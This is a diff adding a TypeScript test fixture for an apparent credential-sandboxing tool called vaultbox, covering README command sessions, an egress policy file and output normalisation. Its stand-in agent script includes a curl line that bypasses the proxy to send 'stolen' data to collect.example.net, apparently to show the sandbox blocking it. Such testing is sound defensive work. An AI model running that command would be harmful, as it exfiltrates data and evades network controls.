@@ -1,0 +1,69 @@
+/** Commands of one session in README.md, as a user types them; `#` is a comment that is shown and not run. */
+export interface ReadmeSession {
+  readonly name: string;
+  readonly commands: readonly string[];
+}
+
+/** In the order of the file; they run one after another in one home, so a later one may use what an earlier one made. */
+export const readmeSessions: readonly ReadmeSession[] = [
+  {
+    name: "first",
+    commands: [
+      "vaultbox credential add items --host api.example.com --bearer --env ITEMS_TOKEN < ~/token.txt",
+      "vaultbox run --allow 'GET https://api.example.com/v1/**' -- sh agent.sh",
+    ],
+  },
+  {
+    name: "start",
+    commands: [
+      "cat agent.sh",
+      "vaultbox credential list",
+      "vaultbox policy explain --allow 'GET https://api.example.com/v1/**' GET https://api.example.com/v1/items",
+    ],
+  },
+  {
+    name: "policy",
+    commands: ["cat vaultbox.yaml", "vaultbox trust --yes", "vaultbox policy show"],
+  },
+  { name: "audit", commands: ["vaultbox audit show", "vaultbox audit verify"] },
+];
+
+/** The script that stands for an agent. */
+export const agentScript = `echo "token: $(echo $ITEMS_TOKEN | cut -c1-4)…"
+curl -s https://api.example.com/v1/items
+curl -s -X DELETE https://api.example.com/v1/items/1
+curl -s --noproxy '*' https://collect.example.net/?data=stolen || true
+`;
+
+export const projectFile = `version: 1
+egress:
+  - host: docs.example.com
+  - host: api.example.com
+    allow: ["GET /v1/**", "POST /v1/items"]
+    deny: ["* /v1/admin/**"]
+limits: { requests: 500, upload: 10MB }
+`;
+
+/** A session as it stands in README.md. */
+export function toBlock(steps: readonly { command: string; output: string }[]): string {
+  const lines = steps.flatMap(({ command, output }) => [
+    `$ ${command}`,
+    ...normalise(output)
+      .trimEnd()
+      .split("\n")
+      .filter((line) => line !== ""),
+  ]);
+  return ["```console", ...lines, "```"].join("\n");
+}
+
+/** What differs from run to run, in a fixed form. */
+function normalise(output: string): string {
+  return output
+    .replace(/\b[0-9a-f]{64}\b/g, "6b1f…")
+    .replace(/\b[0-9a-f]{12}\b/g, "c8d6c9d60201")
+    .replace(/\d{4}-\d\d-\d\d([T ])\d\d:\d\d:\d\d(?:\.\d+)?Z?/g, "2026-11-21$109:30:00")
+    .replace(/\b\d\d:\d\d:\d\d(?:\.\d+)?\b/g, "09:30:00")
+    .replace(/\/tmp\/[^\s"]*\/project/g, "/home/you/project")
+    .replace(/\/tmp\/[^\s"]*\/home/g, "/home/you")
+    .replace(/\b\d+(?:\.\d+)? ?ms\b/g, "4 ms");
+}
